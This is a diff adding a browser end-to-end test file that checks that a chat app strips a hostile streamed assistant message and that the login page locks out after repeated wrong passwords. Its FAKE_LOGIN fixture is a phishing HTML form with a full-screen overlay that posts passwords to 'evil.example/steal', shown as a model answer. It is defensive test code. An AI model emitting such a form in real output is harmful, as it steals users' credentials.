@@ -1,0 +1,103 @@
+// @vitest-environment node
+// The login page and hostile model output in a real browser (Debian chromium) against the real stack:
+// a streamed assistant message carrying a fake login form renders no form (issue 12.8), and after
+// LOGIN_ATTEMPT_LIMIT_MAX wrong passwords the login page counts the lock-out down (contract §5.5).
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { existsSync, mkdirSync } from 'node:fs';
+import { join } from 'node:path';
+import { chromium, type Browser, type Page } from 'playwright-core';
+import { REPO_ROOT, configureFakeLlm, makeStackDirs, seedProject, startFakeLlm, startStack, type FakeLlm, type Stack } from '@pi-forge/test-fixtures';
+
+const PASSWORD = 'login-page-password-Vb6';
+const SHOTS = join(REPO_ROOT, 'test-output', 'screenshots');
+const CHROMIUM = ['/usr/bin/chromium', '/usr/bin/chromium-browser'].find((p) => existsSync(p)) ?? '/usr/bin/chromium';
+const STEP = 60_000;
+const FAKE_LOGIN = [
+  'Your session expired. Please sign in again:\n\n',
+  '<form action="https://evil.example/steal" method="post"><style>.app{display:none}</style>',
+  '<div style="position:fixed;inset:0;background:#000">Session expired</div>',
+  '<input type="password" name="pw" placeholder="Password"><button type="submit">Sign in</button></form>',
+  '\n\nEnd of the hostile answer.',
+];
+
+describe('the login page and hostile output in a browser', () => {
+  let stack: Stack;
+  let llm: FakeLlm;
+  let browser: Browser;
+
+  beforeAll(async () => {
+    mkdirSync(SHOTS, { recursive: true });
+    llm = await startFakeLlm({ delayMs: 10 });
+    const dirs = makeStackDirs();
+    configureFakeLlm(dirs.piConfig, llm);
+    seedProject(dirs, 'hostile', { 'README.md': '# hostile\n' });
+    stack = await startStack({ name: 'web-login-e2e', dirs, env: { UI_PASSWORD: PASSWORD, LOGIN_ATTEMPT_LIMIT_MAX: '2', LOGIN_LOCKOUT_MS: '120000' } });
+    browser = await chromium.launch({
+      executablePath: CHROMIUM,
+      headless: true,
+      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
+    });
+  }, 90_000);
+
+  afterAll(async () => {
+    await browser?.close();
+    await stack?.dispose();
+    await llm?.close();
+  }, 30_000);
+
+  async function freshPage(): Promise<Page> {
+    const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
+    return context.newPage();
+  }
+
+  it('renders a streamed assistant message with a <form> without any form, input or style', async () => {
+    const page = await freshPage();
+    await page.goto(stack.baseUrl);
+    await page.getByLabel('Password', { exact: true }).fill(PASSWORD);
+    await page.getByRole('button', { name: 'Sign in' }).click();
+    await page.getByRole('main', { name: 'Chat' }).waitFor({ timeout: 15_000 });
+    await page.getByRole('button', { name: 'hostile', exact: true }).click();
+    await page.getByRole('button', { name: 'New session', exact: true }).click();
+    await expect.poll(() => page.locator('.conn').textContent(), { timeout: 10_000 }).toBe('Live');
+    llm.enqueue({ text: FAKE_LOGIN });
+    const composer = page.getByLabel('Message', { exact: true });
+    await composer.fill('[no-tool] say something');
+    await composer.press('Enter');
+    const answer = page.getByRole('article', { name: 'Agent' }).last();
+    await expect.poll(() => answer.textContent(), { timeout: 20_000 }).toContain('End of the hostile answer.');
+    await page.screenshot({ path: join(SHOTS, 'login-01-hostile-answer.png') });
+    expect(await answer.textContent()).toContain('Session expired');
+    expect(await answer.locator('form, input, button, style, [style]').count()).toBe(0);
+    expect(await page.locator('form[action*="evil"], input[name="pw"]').count()).toBe(0);
+    await page.context().close();
+  }, STEP);
+
+  it('shows a counting-down lock-out after LOGIN_ATTEMPT_LIMIT_MAX wrong passwords', async () => {
+    const page = await freshPage();
+    await page.goto(stack.baseUrl);
+    const password = page.getByLabel('Password', { exact: true });
+    const signIn = page.getByRole('button', { name: 'Sign in' });
+    for (let i = 0; i < 2; i++) {
+      await password.fill(`wrong-${i}`);
+      await signIn.click();
+      await expect.poll(() => page.getByRole('alert').textContent()).toContain('did not match');
+      await page.getByRole('alert').filter({ hasText: 'did not match' }).waitFor();
+    }
+    // Locked now (limit 2): even the right password is refused with 423 and the form counts down.
+    await password.fill(PASSWORD);
+    await signIn.click();
+    const alert = page.getByRole('alert');
+    await expect.poll(() => alert.textContent()).toMatch(/Too many failed sign-in attempts\. Try again in \d:\d\d\./);
+    const timer = page.locator('.lockout-timer');
+    const first = (await timer.textContent()) ?? '';
+    const seconds = (t: string) => Number(t.split(':')[0]) * 60 + Number(t.split(':')[1]);
+    expect(seconds(first)).toBeGreaterThan(60);
+    expect(seconds(first)).toBeLessThanOrEqual(120);
+    expect(await signIn.isDisabled()).toBe(true);
+    await page.screenshot({ path: join(SHOTS, 'login-02-locked.png') });
+    // The countdown moves on its own.
+    await expect.poll(async () => seconds((await timer.textContent()) ?? first), { timeout: 10_000 }).toBeLessThan(seconds(first));
+    expect(await page.evaluate(() => localStorage.getItem('pi-forge/auth-token'))).toBeNull();
+    await page.context().close();
+  }, STEP);
+});
